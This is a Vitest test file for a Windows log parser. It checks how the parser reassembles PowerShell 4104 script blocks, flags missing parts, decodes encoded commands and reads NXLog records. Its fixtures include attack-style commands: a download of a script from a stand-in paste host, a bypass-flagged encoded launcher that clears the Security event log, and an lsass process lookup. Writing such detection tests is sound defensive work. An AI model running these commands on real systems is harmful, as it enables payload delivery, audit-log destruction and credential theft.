import { describe, expect, it } from 'vitest';

import { windowsParser } from '../../../src/server/ingest/parsers/windows';
import { parseOne, parseRecords } from './support/parse-records';
import { encode, scriptBlock, windowsOptions } from './support/windows-records';

describe('Windows parser: PowerShell script blocks', () => {
  it('joins a script block logged in parts, out of order and interleaved, into one event', () => {
    const id = '9c0f2c0e-36b1-4e3f-9d55-2d8f6a9b1c11';
    const other = '11111111-2222-4333-8444-555555555555';
    const session = windowsParser.create(windowsOptions);
    expect(
      session.push(
        scriptBlock(id, 2, 3, 'Invoke-WebRequest -Uri $u ', '2024-05-02T02:20:01.000Z'),
        1,
      ),
    ).toEqual([]);
    expect(session.push(scriptBlock(other, 1, 1, 'Get-Date'), 2)).toHaveLength(1);
    expect(
      session.push(
        scriptBlock(id, 3, 3, '-OutFile $env:TEMP\\x.ps1', '2024-05-02T02:20:02.000Z'),
        3,
      ),
    ).toEqual([]);
    const done = session.push(scriptBlock(id, 1, 3, '$u = "https://paste.example/raw"; '), 4);
    // One event at the first part's place; the other parts are accounted for as joined into it.
    expect(done.slice(1)).toEqual([
      {
        kind: 'skipped',
        reason: expect.stringMatching(/^PowerShell 4104 script block part: joined/),
        position: 4,
      },
      {
        kind: 'skipped',
        reason: expect.stringMatching(/^PowerShell 4104 script block part: joined/),
        position: 3,
      },
    ]);
    const item = done[0]!;
    expect(item.kind === 'event' && item.event).toMatchObject({
      activity: 'script_exec',
      category: 'script',
      time: Date.parse('2024-05-02T02:20:00.000Z'),
      sourceEventId: `LAPTOP-JDOE.acme.local:4104:${id}`,
      actorEmail: 'jane.doe@acme.com',
      actorId: 'S-1-5-21-1004336348-1177238915-682003330-1104',
      process: {
        commandLine:
          '$u = "https://paste.example/raw"; Invoke-WebRequest -Uri $u -OutFile $env:TEMP\\x.ps1',
      },
      attributes: { scriptBlockId: id, partsTotal: 3, partsReceived: 3 },
    });
    expect(item.position).toBe(1);
    expect(session.end()).toEqual([]);
  });

  it('emits an incomplete script block at the end, saying which parts are missing', () => {
    const id = 'aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee';
    const { events } = parseRecords(
      windowsParser,
      [scriptBlock(id, 1, 4, 'part one '), scriptBlock(id, 3, 4, 'part three')],
      windowsOptions,
    );
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      process: { commandLine: 'part one part three' },
      attributes: { partsTotal: 4, partsReceived: 2, partsMissing: [2, 4] },
    });
  });

  it('decodes encoded commands launched from a script block', () => {
    const launcher = `Start-Process powershell -ArgumentList '-ep bypass -EncodedCommand ${encode('Clear-EventLog -LogName Security')}'`;
    const event = parseOne(
      windowsParser,
      scriptBlock('12345678-1234-4234-8234-123456789012', 1, 1, launcher),
      windowsOptions,
    );
    expect(event.attributes.decodedCommand).toBe('Clear-EventLog -LogName Security');
  });

  it("reads NXLog's 4104 records whose fields only survive in the rendered message", () => {
    const nxlog = {
      EventTime: '2020-07-21 20:02:31',
      '@timestamp': '2020-07-22T00:02:31.900Z',
      Hostname: 'WORKSTATION5.acme.local',
      host: 'wec.acme.local',
      SourceName: 'Microsoft-Windows-PowerShell',
      Channel: 'Microsoft-Windows-PowerShell/Operational',
      EventID: 4104,
      UserID: 'S-1-5-18',
      Domain: 'NT AUTHORITY',
      AccountName: 'SYSTEM',
      RecordNumber: 4410,
      ERROR_EVT_UNRESOLVED: true,
      Message:
        'Creating Scriptblock text (1 of 1):\r\nGet-Process lsass\r\n\r\nScriptBlock ID: 0b7f6f5c-1d2e-4f3a-9b8c-7d6e5f4a3b2c\r\nPath: ',
    };
    expect(parseOne(windowsParser, nxlog, windowsOptions)).toMatchObject({
      time: Date.parse('2020-07-22T00:02:31.900Z'),
      actorId: 'NT AUTHORITY\\SYSTEM',
      device: { name: 'WORKSTATION5.acme.local' },
      process: { commandLine: 'Get-Process lsass' },
    });
  });
});
